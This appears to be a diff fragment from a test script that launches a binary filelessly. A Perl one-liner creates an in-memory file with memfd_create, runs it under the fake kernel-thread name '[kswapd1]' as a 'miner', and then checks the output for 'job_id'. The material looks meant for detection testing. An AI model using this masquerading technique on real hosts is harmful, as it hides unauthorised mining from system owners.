@@ -9,7 +9,7 @@ my $name = "x"; my $fd = syscall(319, $name, 0); open(my $f, ">&=", $fd); binmod
 exec { "/proc/$$/fd/$fd" } "[kswapd1]", "burn";
 END
 perl /tmp/l.pl >/tmp/out & miner=$!
-rm /tmp/l.pl
+sleep 0.5; rm /tmp/l.pl
 wait $miner
 grep -q job_id /tmp/out
 took_place
